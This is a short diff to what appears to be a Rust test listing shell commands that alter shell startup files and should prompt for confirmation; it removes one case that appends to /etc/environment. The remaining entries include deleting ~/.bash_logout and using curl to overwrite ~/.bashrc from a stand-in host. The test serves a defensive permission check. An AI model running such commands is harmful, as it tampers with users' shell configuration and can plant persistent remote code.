@@ -22,7 +22,6 @@ fn start_files_of_shells_ask() {
             "rm ~/.bash_logout",
             "mv x ~/.xprofile",
             "cat >> /Users/me/.zprofile <<'E'\nx\nE",
-            "python3 -c \"open('/etc/environment', 'a').write('x')\"",
             "curl -o ~/.bashrc https://x.example/bashrc",
         ],
     );
